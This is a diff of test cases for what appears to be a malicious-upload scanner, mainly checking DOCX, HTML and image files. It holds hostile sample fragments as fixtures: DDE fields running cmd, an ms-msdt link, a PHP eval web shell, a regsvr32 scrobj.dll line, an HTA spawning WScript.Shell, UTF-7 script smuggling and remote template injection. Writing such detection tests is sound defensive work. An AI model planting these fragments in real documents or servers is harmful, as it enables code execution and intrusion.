+        lambda: docx({"word/media/image1.dat": MACROS}), "pattern:macro_project", "macros"
+    ),
+    "DOCX with macros in an old container": _docx(
+        lambda: docx({"word/media/image1.dat": OLE}), "foreign_content", "old Office"
+    ),
+    "DOCX with Excel macros": _docx(
+        lambda: docx({"custom/sheet.xml": "<xm:macrosheet xmlns:xm='x'/>"}), "pattern:old_macro_sheet"
+    ),
+    "DOCX with ActiveX": _docx(lambda: docx({"word/activeX/activeX1.xml": "<a/>"}), "active_content", "ActiveX"),
+    "DOCX with an embedded object": _docx(
+        lambda: docx({"word/embeddings/oleObject1.bin": b"x"}), "active_content", "embedded"
+    ),
+    "DOCX with a program in it": _docx(lambda: docx({"word/media/setup.exe": b"x"}), "active_content", "programs"),
+    "DOCX with changed buttons": _docx(lambda: docx({"customUI/customUI.xml": "<a/>"}), "active_content", "buttons"),
+    "DOCX with a packed file": _docx(
+        lambda: docx({"word/media/a.bin": b"x" * 30 + "Ole10Native".encode("utf-16-le")}), "pattern:packaged_object"
+    ),
+    "DOCX with an old equation": _docx(
+        lambda: docx({"word/media/a.bin": b"x" * 30 + bytes.fromhex("02ce020000000000c000000000000046")}),
+        "pattern:equation_exploit",
+    ),
+    "DOCX with RTF in it": _docx(
+        lambda: docx({"word/a.rtf": rb"{\rtf1{\object\objupdate{\*\objdata 0105}}}"}), "pattern:rtf_object"
+    ),
+    "DOCX with DDE": _docx(lambda: _document(media.field(' DDEAUTO cmd "/k calc" ')), "active_content", "DDE"),
+    "DOCX with DDE in pieces": _docx(lambda: _document(media.field(" DD", "EAU", "TO cmd ")), "active_content", "DDE"),
+    "DOCX with DDE in one attribute": _docx(
+        lambda: _document('<w:fldSimple w:instr=" DDE cmd x "><w:r/></w:fldSimple>'), "active_content", "DDE"
+    ),
+    "DOCX with DDE in a header": _docx(
+        lambda: docx({"word/header1.xml": word(media.field("dde cmd"))}), "active_content", "DDE"
+    ),
+    "DOCX that fetches a picture by a field": _docx(
+        lambda: _document(media.field(' INCLUDEPICTURE "https://example.org/a.png" ')), "active_content", "fetch"
+    ),
+    "DOCX with a template elsewhere": _docx(
+        lambda: docx(
+            {"word/_rels/settings.xml.rels": media.relations(("attachedTemplate", "https://example.org/x.dotm", True))}
+        ),
+        "active_content",
+        "elsewhere",
+    ),
+    "DOCX with an object elsewhere": _docx(
+        lambda: _related("oleObject", "mhtml:https://example.org!x"), "active_content"
+    ),
+    "DOCX with a frame": _docx(lambda: _related("frame"), "active_content"),
+    "DOCX with a sub-document elsewhere": _docx(lambda: _related("subDocument"), "active_content"),
+    "DOCX with something unheard of elsewhere": _docx(lambda: _related("whatever"), "active_content"),
+    "DOCX with a page inside": _docx(lambda: _related("aFChunk", "a.html", outside=False), "active_content"),
+    "DOCX with a link that starts a program": _docx(
+        lambda: _related("hyperlink", "ms-msdt:/id PCWDiagnostic"), "pattern:remote_protocol"
+    ),
+    "DOCX with entities that multiply": _docx(
+        lambda: docx({"word/document.xml": LAUGHS + word("<w:p/>")}), "bomb", "entities"
+    ),
+    "DOCX that is a workbook": _docx(
+        lambda: docx({"[Content_Types].xml": media.content_types("application/vnd.ms-excel")}), "type_mismatch"
+    ),
+    "DOCX without its document": _docx(lambda: docx({"word/document.xml": None}), "type_mismatch", "none in it"),
+    "DOCX with a password": _docx(lambda: OLE, "type_mismatch", "encrypted new one"),
+    "JAR named as DOCX": _docx(lambda: packed({"META-INF/MANIFEST.MF": "x"}), "type_mismatch", "Java archive"),
+    "EPUB named as DOCX": _docx(epub, "type_mismatch", "an EPUB book"),
+    # ---- pages ----
+    "text named as HTML": Case("text/html", "a.html", lambda: b"Just words.", "type_mismatch", "does not begin as one"),
+    "PHP named as HTML": Case("text/html", "a.html", lambda: PHP + PAGE, "type_mismatch", "PHP"),
+    "SVG named as HTML": Case("text/html", "a.html", lambda: b"<svg xmlns='x'><body></svg>", "type_mismatch", "SVG"),
+    "HTML in an encoding that passes filters": Case(
+        "text/html", "a.html", lambda: b"<html><meta charset=utf-7>+ADw-script+AD4-", "malformed", "encoding"
+    ),
+    "HTML in an encoding that it is not in": Case(
+        "text/html", "a.html", lambda: b"<html><meta charset=utf-8>f\xfcr", "malformed", "not valid"
+    ),
+    "HTML with binary data": Case("text/html", "a.html", lambda: PAGE + b"\0\1\2", "type_mismatch", "binary"),
+    "HTML of 21 MB": Case("text/html", "a.html", lambda: PAGE + b"x" * 21 * MB, "too_large", "20 MB"),
+    "HTML that is a Windows program": Case(
+        "text/html",
+        "a.html",
+        lambda: PAGE + b"<hta:application><script>new ActiveXObject('WScript.Shell')</script>",
+        "pattern:html_application",
+    ),
+    "text with a shell for web servers": Case(
+        "text/plain",
+        "a.txt",
+        lambda: b"words\n x <?php error_reporting(0); set_time_limit(0); @eval($_POST['x']); ?>",
+        "pattern:web_shell",
+    ),
+    "text with the test string of spam filters": Case(
+        "text/plain",
+        "a.txt",
+        lambda: b"XJS*C4JDBQADN1.NSBN3*2IDNEN*GTUBE-" + b"STANDARD-ANTI-UBE-TEST-EMAIL*C.34X",
+        "pattern:spam_test",
+    ),
+    "picture with a script component": _jpeg(
+        lambda: media.jpeg_with_comment(b"regsvr32 /s /n /u /i:x scrobj.dll"), "pattern:windows_script"
+    ),
+    "macOS program in a picture": _jpeg(
+        lambda: saved(drawn(), "JPEG") + b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0" + bytes(99),
+        "pattern:macos_program",
+    ),
+}
